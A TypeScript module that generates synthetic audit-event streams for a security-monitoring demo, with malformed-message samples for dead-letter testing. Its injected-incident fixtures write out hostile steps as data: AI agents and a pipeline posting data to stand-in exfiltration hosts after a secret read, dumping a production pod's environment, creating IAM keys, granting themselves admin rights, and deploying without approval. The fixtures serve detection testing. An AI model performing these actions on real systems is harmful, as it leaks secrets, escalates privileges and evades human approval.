      attributes: { workflow: 'release.yml', run_attempt: '1', trace_id: traceId(rng) },
    }),
    script: releaseBotSession,
  },
  'support-agent': {
    identity: {
      id: 'support-agent',
      type: 'agent',
      owner: 'team-support',
      purpose: 'Answers customer tickets: reads the ticket, searches the help center, replies by email',
      credential: 'zendesk-oauth:fp-7c41e09a',
      tools: ['zendesk.get_ticket', 'kb.search', 'zendesk.add_comment', 'send_email'],
      resources: ['zendesk:tickets', 'kb:help-center-en'],
      domains: [ZENDESK_API, SENDGRID_API],
      revoked: false,
    },
    tsStyle: 'epoch_ms',
    idStyle: 'ulid',
    outcomes: { success: 95, failure: 2, denied: 2, error: 1 },
    source: {
      system: 'agent-gateway',
      ips: ['10.52.3.21', '10.52.3.22'],
      userAgent: 'support-agent/1.12.0 langgraph/0.2.60',
    },
    gapMs: [1_500, 25_000],
    open: (rng, startMs) => ({
      id: `conv_${ulid(startMs, rng)}`,
      attributes: {
        model: rng.pick(AGENT_MODELS),
        trace_id: traceId(rng),
        channel: rng.pick(['email', 'web_widget']),
      },
    }),
    script: supportSession,
  },
  'data-pipeline': {
    identity: {
      id: 'data-pipeline',
      type: 'workload',
      owner: 'team-data',
      purpose: 'Hourly ETL: raw-events S3 partitions into Snowflake, curated Parquet back to S3',
      credential: 'akid:fp-7d3f9a21c4e0',
      tools: ['vault.read', 's3:GetObject', 'snowflake.query', 's3:PutObject'],
      resources: [
        PIPELINE_SECRET,
        's3://raw-events',
        's3://curated-events',
        'ANALYTICS.RAW.EVENTS_STAGE',
        'ANALYTICS.CURATED.EVENTS',
      ],
      domains: ['raw-events.s3.amazonaws.com', 'curated-events.s3.amazonaws.com', SNOWFLAKE_HOST],
      revoked: false,
    },
    tsStyle: 'rfc3339_utc',
    idStyle: 'uuid7',
    outcomes: { success: 97, failure: 1, denied: 0.5, error: 1.5 },
    source: {
      system: 'airflow',
      ips: ['10.60.8.44', '10.60.8.45'],
      userAgent: 'Boto3/1.35.36 airflow/2.10.3',
    },
    gapMs: [300, 8_000],
    open: (rng, startMs) => ({
      id: `curate_events__${new Date(startMs).toISOString()}__${rng.hex(6)}`,
      attributes: { dag_id: 'curate_events', task_try: '1', trace_id: traceId(rng) },
    }),
    script: dataPipelineSession,
  },
  'coding-agent': {
    identity: {
      id: 'coding-agent',
      type: 'agent',
      owner: 'alice@acme.dev',
      purpose: 'Fixes small issues in acme/api on request: reads code, runs tests, opens draft PRs',
      credential: 'gh-app:412877:fp-5ad0c3e4',
      tools: [
        'repo.search',
        'repo.read_file',
        'pip.install',
        'npm.install',
        'run_tests',
        'git.commit',
        'github.create_pull_request',
      ],
      resources: ['acme/api'],
      domains: ['pypi.org', 'registry.npmjs.org', GITHUB_API],
      revoked: false,
    },
    tsStyle: 'epoch_ms',
    idStyle: 'ulid',
    outcomes: { success: 93, failure: 4, denied: 2, error: 1 },
    source: {
      system: 'agent-gateway',
      ips: ['10.52.9.101', '10.52.9.102'],
      userAgent: 'coding-agent/0.9.3 mcp/2025-06-18',
    },
    onBehalfOf: 'alice@acme.dev',
    gapMs: [2_000, 45_000],
    // One instance per run: the run id names both the session and the instance.
    open: (rng) => {
      const run = `run_${rng.hex(12)}`;
      return {
        id: run,
        instance: run,
        attributes: { model: rng.pick(AGENT_MODELS), trace_id: traceId(rng) },
      };
    },
    script: codingAgentSession,
  },
  'legacy-sync': {
    identity: {
      id: 'legacy-sync',
      type: 'service_account',
      owner: 'team-it',
      purpose: 'Nightly LDAP → Salesforce contact export to a partner; decommissioned and revoked',
      credential: 'akid:fp-00c3e5b7a912',
      tools: ['ldap.search', 'salesforce.bulk_query', 'sftp.put'],
      resources: ['ldap:ou=people', 'salesforce:Contact', 'sftp:/inbound'],
      domains: ['ldap.corp.acme.dev', 'acme.my.salesforce.com', 'sftp.partner-legacy.example'],
      revoked: true,
    },
    tsStyle: 'rfc3339_us_east',
    idStyle: 'uuid7',
    outcomes: { success: 92, failure: 2, denied: 4, error: 2 },
    source: { system: 'cron', ips: ['192.168.14.20'], userAgent: 'legacy-sync/1.0 perl/5.16' },
    gapMs: [500, 5_000],
    open: (rng) => ({
      id: `cron-${rng.hex(10)}`,
      attributes: { host: 'ldap-sync-01.corp.acme.dev', script: 'sync_contacts.pl' },
    }),
    script: legacySyncSession,
  },
} satisfies Record<string, Profile>;
type DemoIdentityId = keyof typeof PROFILES;
const PROFILE_BY_ID: Readonly<Record<DemoIdentityId, Profile>> = PROFILES;

export const DEMO_IDENTITIES: readonly DemoIdentity[] = Object.values(PROFILE_BY_ID).map((p) => p.identity);
export const REVOKED_DEMO_IDENTITY: string = PROFILES['legacy-sync'].identity.id;
/** Humans who approve prod deploys (they appear as actors of `approval.grant`). */
export const DEMO_APPROVERS: readonly string[] = APPROVERS.map((a) => a.identity.id);
/** Identities that act on their own; the revoked one only shows up in incidents. */
const ACTIVE_PROFILES: readonly Profile[] = Object.values(PROFILE_BY_ID).filter((p) => !p.identity.revoked);

/**
 * A fresh stream starts with no sessions in flight, so until they overlap in steady state it
 * covers simulated time faster than its long-run rate: paced by count, its timestamps settle
 * this far ahead of the wall clock (measured; independent of the rate, since it comes from how
 * long sessions last). Producers start the stream this much in the past to stay near real time.
 */
export const DEMO_RAMP_UP_LEAD_MS = 85_000;

/** The per-identity rate that makes the whole stream average `eventsPerSecond`. */
export function eventsPerIdentityHourFor(eventsPerSecond: number): number {
  return (eventsPerSecond * 3_600) / ACTIVE_PROFILES.length;
}

// ---------------------------------------------------------------------------------------------
// Injected incidents: a plausible session with one step that should not be there
// ---------------------------------------------------------------------------------------------

interface IncidentVariant {
  kind: IncidentKind;
  identity: DemoIdentityId;
  build: Script;
}

/** Inserts `extra` somewhere after the first step, where it blends into the session. */
function inject(steps: Step[], extra: Step, rng: Rng): Step[] {
  const at = rng.int(1, steps.length);
  return [...steps.slice(0, at), extra, ...steps.slice(at)];
}

const EXFIL_HOSTS = [
  'paste.demo-drop.net',
  'hastebin-mirror.example.org',
  'files.tmpshare-demo.io',
  'gist-cache.example.net',
];

function exfiltration(ctx: ScriptCtx): Step {
  const base = ctx.rng.pick(EXFIL_HOSTS);
  const host = ctx.rng.chance(0.5) ? `${ctx.rng.hex(6)}.${base}` : base;
  const url = `https://${host}/api/v1/documents`;
  return step('http.post', ctx.gap(), {
    resource: res('url', url),
    target_domain: host,
    args: {
      url,
      method: 'POST',
      content_type: 'text/plain',
      body_bytes: ctx.rng.int(2_000, 200_000),
      user_agent: 'python-requests/2.32.3',
    },
    incident: 'new_egress_after_secret_read',
  });
}

const NEW_TOOL_STEPS = {
  'support-agent': (ctx: ScriptCtx): Step =>
    step('iam.create_access_key', ctx.gap(), {
      resource: res('iam_user', 'arn:aws:iam::123456789012:user/support-agent'),
      target_domain: 'iam.amazonaws.com',
      args: { UserName: 'support-agent', reason: 'need programmatic access to fetch attachments' },
      incident: 'new_tool',
    }),
  'coding-agent': (ctx: ScriptCtx): Step =>
    step('kubectl.exec', ctx.gap(), {
      resource: res('k8s_pod', `prod/api-${ctx.rng.hex(10)}`),
      target_domain: 'k8s.prod.internal.acme.dev',
      args: { namespace: 'prod', container: 'api', command: ['sh', '-c', 'env | sort'], tty: false },
      incident: 'new_tool',
    }),
  'data-pipeline': (ctx: ScriptCtx): Step =>
    step('iam.attach_role_policy', ctx.gap(), {
      resource: res('iam_role', 'arn:aws:iam::123456789012:role/data-pipeline'),
      target_domain: 'iam.amazonaws.com',
      args: { RoleName: 'data-pipeline', PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
      incident: 'new_tool',
    }),
} as const;

/** commit → push → prod deploy with no approval at all. */
function unapprovedProdDeploy(ctx: ScriptCtx): Step[] {
  const r = newRelease(ctx);
  return [
    releaseCommit(ctx, r),
    releasePush(ctx, r),
    ...checkPolls(ctx, r, 0, 1),
    { ...argoSync(ctx, r, 'prod'), incident: 'deploy_without_approval' },
    argoStatus(ctx, r, 'prod'),
  ];
}

const INCIDENT_VARIANTS: readonly IncidentVariant[] = [
  {
    kind: 'new_tool',
    identity: 'support-agent',
    build: (ctx) => inject(supportSession(ctx), NEW_TOOL_STEPS['support-agent'](ctx), ctx.rng),
  },
  {
    kind: 'new_tool',
    identity: 'coding-agent',
    build: (ctx) => inject(codingAgentSession(ctx), NEW_TOOL_STEPS['coding-agent'](ctx), ctx.rng),
  },
  {
    kind: 'new_tool',
    identity: 'data-pipeline',
    build: (ctx) => inject(dataPipelineSession(ctx), NEW_TOOL_STEPS['data-pipeline'](ctx), ctx.rng),
  },
  // The pipeline's sessions open with its secret read, so any later position follows it.
  {
    kind: 'new_egress_after_secret_read',
    identity: 'data-pipeline',
    build: (ctx) => inject(dataPipelineSession(ctx), exfiltration(ctx), ctx.rng),
  },
  { kind: 'deploy_without_approval', identity: 'release-bot', build: unapprovedProdDeploy },
  {
    kind: 'revoked_identity_activity',
    identity: 'legacy-sync',
    build: (ctx) =>
      legacySyncSession(ctx).map((s, i) => (i === 0 ? { ...s, incident: 'revoked_identity_activity' } : s)),
  },
];

const VARIANTS_BY_KIND: Readonly<Record<IncidentKind, readonly IncidentVariant[]>> = {
  new_tool: INCIDENT_VARIANTS.filter((v) => v.kind === 'new_tool'),
  new_egress_after_secret_read: INCIDENT_VARIANTS.filter((v) => v.kind === 'new_egress_after_secret_read'),
  deploy_without_approval: INCIDENT_VARIANTS.filter((v) => v.kind === 'deploy_without_approval'),
  revoked_identity_activity: INCIDENT_VARIANTS.filter((v) => v.kind === 'revoked_identity_activity'),
};

// ---------------------------------------------------------------------------------------------
// From steps to wire events
// ---------------------------------------------------------------------------------------------

function identityOf(actor: Actor, session: SessionMeta, ownSession: boolean): ActionEventInput['identity'] {
  const { id, type, owner, credential } = actor.identity;
  // The instance belongs to the session's own identity, not to a human stepping in.
  if (ownSession && session.instance !== undefined)
    return { id, type, owner, instance: session.instance, credential };
  return { id, type, owner, credential };
}

/**
 * One step as a wire event. Optional fields are assigned rather than spread: this is the hot
 * path, and assignment keeps the key order (and so the JSON bytes) just as stable.
 */
function materialize(s: Step, profile: Profile, session: SessionMeta, ms: number, rng: Rng): DemoEvent {
  const actor = s.actor ?? profile;
  const spec = TOOLS[s.tool];
  const event: ActionEventInput = {
    event_id: ID_STYLES[actor.idStyle](ms, rng),
    ts: TS_STYLES[actor.tsStyle](ms),
    identity: identityOf(actor, session, s.actor === undefined),
    session: session.id,
    action: s.action ?? spec.action,
    tool: s.tool,
  };
  if (s.resource) event.resource = s.resource;
  if (s.target_domain !== undefined) event.target_domain = s.target_domain;
  if (spec.permission !== undefined) event.permission = spec.permission;
  event.outcome = s.outcome ?? rng.weighted(actor.outcomes);
  if (s.approval) event.approval = s.approval;
  if (actor.onBehalfOf !== undefined) event.on_behalf_of = actor.onBehalfOf;
  event.source = {
    system: spec.system ?? actor.source.system,
    ip: rng.pick(actor.source.ips),
    user_agent: actor.source.userAgent,
  };
  if (s.args) event.args = s.args;
  event.attributes = { ...session.attributes, span_id: rng.hex(16) };
  const demo: DemoEvent = { key: actor.identity.id, event };
  if (s.incident) demo.incident = s.incident;
  return demo;
}

interface Planned {
  at: number;
  item: DemoEvent;
}

/** Decides what a new session of `profile` is (normal or an incident) and lays out its events. */
function planSession(profile: Profile, startMs: number, rng: Rng, incidentRate: number): Planned[] {
  const variant = rng.chance(incidentRate) ? rng.pick(VARIANTS_BY_KIND[rng.pick(INCIDENT_KINDS)]) : undefined;
  const actor = variant ? PROFILE_BY_ID[variant.identity] : profile;
  const [minGap, maxGap] = actor.gapMs;
  const ctx: ScriptCtx = { rng, startMs, identityId: actor.identity.id, gap: () => rng.int(minGap, maxGap) };
  const steps = (variant?.build ?? actor.script)(ctx);
  const session = actor.open(rng, startMs);
  let at = startMs;
  return steps.map((s) => {
    at += s.gapMs;
    return { at, item: materialize(s, actor, session, at, rng) };
  });
}

// ---------------------------------------------------------------------------------------------
// The stream: a discrete-event simulation over overlapping sessions
// ---------------------------------------------------------------------------------------------

type TimerBody = { kind: 'event'; item: DemoEvent } | { kind: 'session'; profile: Profile };
interface Timer {
  at: number;
  seq: number;
  body: TimerBody;
}

/** Binary min-heap on (at, seq): equal times come out in insertion order, so output is stable. */
class TimerQueue {
  private readonly heap: Timer[] = [];
  private seq = 0;

  push(at: number, body: TimerBody): void {
    const heap = this.heap;
    heap.push({ at, seq: this.seq++, body });
    for (let i = heap.length - 1; i > 0;) {
      const parent = (i - 1) >> 1;
      if (!this.less(i, parent)) break;
      this.swap(i, parent);
      i = parent;
    }
  }

  pop(): Timer {
    const heap = this.heap;
    const top = heap[0];
    const last = heap.pop();
    if (top === undefined || last === undefined) throw new Error('demo timer queue is empty');
    if (heap.length === 0) return top;
    heap[0] = last;
    for (let i = 0; ;) {
      const l = 2 * i + 1;
      const r = l + 1;
      let min = i;
      if (l < heap.length && this.less(l, min)) min = l;
      if (r < heap.length && this.less(r, min)) min = r;
      if (min === i) return top;
      this.swap(i, min);
      i = min;
    }
  }

  private less(i: number, j: number): boolean {
    const a = this.heap[i];
    const b = this.heap[j];
    if (a === undefined || b === undefined) return false;
    return a.at < b.at || (a.at === b.at && a.seq < b.seq);
  }

  private swap(i: number, j: number): void {
    const a = this.heap[i];
    const b = this.heap[j];
    if (a === undefined || b === undefined) return;
    this.heap[i] = b;
    this.heap[j] = a;
  }
}

function resolveOptions(opts: DemoOptions): Required<DemoOptions> {
  const resolved = {
    seed: opts.seed,
    startMs: opts.startMs,
    eventsPerIdentityHour: opts.eventsPerIdentityHour ?? DEFAULT_EVENTS_PER_IDENTITY_HOUR,
    incidentRate: opts.incidentRate ?? DEFAULT_INCIDENT_RATE,
  };
  if (!Number.isFinite(resolved.seed)) throw new RangeError('demo seed must be a finite number');
  if (!Number.isSafeInteger(resolved.startMs))
    throw new RangeError('demo startMs must be integer epoch milliseconds');
  if (!(resolved.eventsPerIdentityHour > 0 && Number.isFinite(resolved.eventsPerIdentityHour)))
    throw new RangeError('eventsPerIdentityHour must be a positive number');
  if (!(resolved.incidentRate >= 0 && resolved.incidentRate <= 1))
    throw new RangeError('incidentRate must be within [0, 1]');
  return resolved;
}

/**
 * Infinite, time-ordered demo traffic. Each active identity starts sessions at random; sessions
 * overlap freely and the queue interleaves their events, so `ts` never goes backwards.
 */
export function createDemoStream(opts: DemoOptions): { next(): DemoEvent } {
  const { seed, startMs, eventsPerIdentityHour, incidentRate } = resolveOptions(opts);
  const rng = new Rng(seed);
  const queue = new TimerQueue();
  const msPerEvent = 3_600_000 / eventsPerIdentityHour;
  /** Only for the first start; afterwards each session's real length sets the pace. */
  const typicalSessionEvents = 7;
  for (const profile of ACTIVE_PROFILES) {
    queue.push(Math.round(startMs + rng.exp(msPerEvent * typicalSessionEvents)), {
      kind: 'session',
      profile,
    });
  }
  return {
    next(): DemoEvent {
      for (;;) {
        const { at, body } = queue.pop();
        if (body.kind === 'event') return body.item;
        const planned = planSession(body.profile, at, rng, incidentRate);
        for (const p of planned) queue.push(p.at, { kind: 'event', item: p.item });
        // The wait until this identity's next session scales with the events this one made,
        // so the long-run rate is exactly eventsPerIdentityHour whatever the session lengths.
        const wait = Math.round(rng.exp(msPerEvent * planned.length));
        queue.push(at + wait, body);
      }
    },
  };
}

export function generateDemoEvents(opts: DemoOptions, count: number): DemoEvent[] {
  const stream = createDemoStream(opts);
  return times(count, () => stream.next());
}

// ---------------------------------------------------------------------------------------------
// Malformed messages, for testing the dead-letter path
// ---------------------------------------------------------------------------------------------

type WireEvent = ActionEventInput & Record<string, unknown>;
type MalformedBuilder = (base: WireEvent, baseMs: number, rng: Rng) => Buffer;

const text = (s: string): Buffer => Buffer.from(s, 'utf8');
const json = (value: unknown): Buffer => text(JSON.stringify(value));
const without = (event: WireEvent, key: string): Record<string, unknown> =>
  Object.fromEntries(Object.entries(event).filter(([k]) => k !== key));

const LATIN1_NAMES = ['José Müller', 'Renée Ångström', 'Zoë Brontë', 'François Lefèvre', 'Søren Kierkegård'];
const MAX_MESSAGE_BYTES = 256 * 1024;

/**
 * One builder per way a producer gets it wrong. Each changes a valid event in exactly one way
 * (so the dead-letter reason is unambiguous) and draws its details from the seed. None of them
 * contains a newline except the NDJSON one, so line-oriented replays see one bad line each.
 */
const MALFORMED_BUILDERS: Readonly<Record<string, MalformedBuilder>> = {
  not_json: (b, _ms, rng) =>
    text(
      `${rng.pick(['INFO', 'WARN', 'DEBUG'])} identity=${b.identity.id} action=${b.action} tool=${b.tool} latency_ms=${rng.int(3, 900)}`,
    ),
  truncated_json: (b, _ms, rng) => {
    const full = JSON.stringify(b);
    return text(full.slice(0, rng.int(1, full.length - 1)));
  },
  ndjson_two_events: (b, _ms, rng) =>
    text(`${JSON.stringify(b)}\n${JSON.stringify({ ...b, event_id: rng.hex(32) })}`),
  json_array: (b, _ms, rng) => json(times(rng.int(1, 3), () => b)),
  json_string: (b) => json(JSON.stringify(b)), // double-encoded
  json_number: (_b, ms, rng) => json(rng.chance(0.5) ? ms : rng.int(0, 9_999)),
  json_null: () => text('null'),
  empty: () => Buffer.alloc(0),
  // Latin-1 from an old producer: é is 0xE9, which is not valid UTF-8 on its own.
  invalid_utf8: (b, _ms, rng) =>
    Buffer.from(
      JSON.stringify({ ...b, args: { ...b.args, customer_name: rng.pick(LATIN1_NAMES) } }),
      'latin1',
    ),
  // A gzip member sent without the matching decompression: magic bytes, then noise.
  gzip_bytes: (_b, _ms, rng) =>
    Buffer.from([0x1f, 0x8b, 0x08, 0x00, ...times(rng.int(24, 96), () => rng.int(0x0b, 0xff))]),
  missing_identity: (b) => json(without(b, 'identity')),
  identity_as_string: (b) => json({ ...b, identity: b.identity.id }),
  missing_tool: (b) => json(without(b, 'tool')),
  unknown_action: (b, _ms, rng) =>
    json({ ...b, action: rng.pick(['deploy.prod', 'file.read', 'tool_call', 'CODE_PUSH']) }),
  unknown_outcome: (b, _ms, rng) => json({ ...b, outcome: rng.pick(['ok', 'SUCCESS', 'passed', 'fail']) }),
  ts_not_a_timestamp: (b, _ms, rng) =>
    json({
      ...b,
      ts: rng.pick(['yesterday', '2026-03-01 12:00:00', '2026-03-01T12:00:00', '03/01/2026 12:00', 'now']),
    }),
  ts_epoch_seconds: (b, ms) => json({ ...b, ts: Math.floor(ms / 1000) }),
  ts_far_future: (b, _ms, rng) =>
    json({ ...b, ts: `${rng.int(2900, 2999)}-0${rng.int(1, 9)}-1${rng.int(0, 9)}T08:00:00Z` }),
  tool_as_number: (b, _ms, rng) => json({ ...b, tool: rng.int(1, 999) }),
  args_as_string: (b, _ms, rng) => json({ ...b, args: `branch=main&force=${rng.pick(['true', 'false'])}` }),
  attributes_not_strings: (b, _ms, rng) =>
    json({ ...b, attributes: { ...b.attributes, retries: rng.int(1, 5), cached: true } }),
  event_id_too_long: (b, _ms, rng) =>
    json({ ...b, event_id: times(rng.int(5, 8), () => rng.hex(32)).join('-') }),
  foreign_schema: (b, _ms, rng) =>
    json({
      eventVersion: '1.09',
      eventSource: 's3.amazonaws.com',
      eventName: rng.pick(['GetObject', 'PutObject', 'ListBuckets']),
      userIdentity: { type: 'AssumedRole', principalId: `AROA${rng.hex(16).toUpperCase()}:${b.identity.id}` },
      eventTime: new Date(Date.UTC(2026, 0, 1) + rng.int(0, DAY_MS)).toISOString(),
    }),
  oversized: (b, _ms, rng) =>
    json({
      ...b,
      args: { ...b.args, blob: rng.chars(BASE64URL, MAX_MESSAGE_BYTES + rng.int(50 * 1024, 110 * 1024)) },
    }),
};

/** A fixed, past start so malformed samples do not depend on the clock either. */
const MALFORMED_BASE_MS = Date.UTC(2025, 5, 1);

function baseEventMs(event: ActionEventInput): number {
  return typeof event.ts === 'number' ? event.ts : Date.parse(event.ts);
}

/**
 * At least a dozen distinct kinds of bad input, each of which the ingest must dead-letter:
 * it fails strict UTF-8 decoding, `JSON.parse`, or `ActionEventSchema`, or exceeds 256 KiB.
 */
export function malformedSamples(seed: number): { kind: string; bytes: Buffer }[] {
  // A stream of its own, so the samples do not mirror the demo stream of the same seed.
  const rng = new Rng(seed ^ 0x5bd1e995);
  const events = generateDemoEvents({ seed, startMs: MALFORMED_BASE_MS + rng.int(0, 30) * DAY_MS }, 8);
  const base = rng.pick(events).event as WireEvent;
  const ms = baseEventMs(base);
  return Object.entries(MALFORMED_BUILDERS).map(([kind, build]) => ({ kind, bytes: build(base, ms, rng) }));
}
